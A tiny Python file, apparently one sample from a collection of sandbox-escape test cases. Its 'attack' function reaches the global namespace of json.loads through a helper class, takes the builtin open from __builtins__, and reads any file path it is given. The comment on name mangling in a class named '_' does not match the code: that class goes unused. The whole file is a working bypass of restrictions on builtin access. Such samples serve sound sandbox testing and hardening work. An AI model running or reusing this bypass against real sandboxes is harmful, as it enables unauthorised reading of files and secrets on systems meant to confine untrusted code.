# In a class whose name is an underscore, a name that begins with two of them is not mangled.
# after: read
# source: own
import json
class _:
    def go(self, f):
        return f.__globals__
class __x:
    def go(self, f):
        return f.__globals__
def attack(path, **_):
    return {"text": __x().go(json.loads)["__builtins__"]["open"](path).read()}
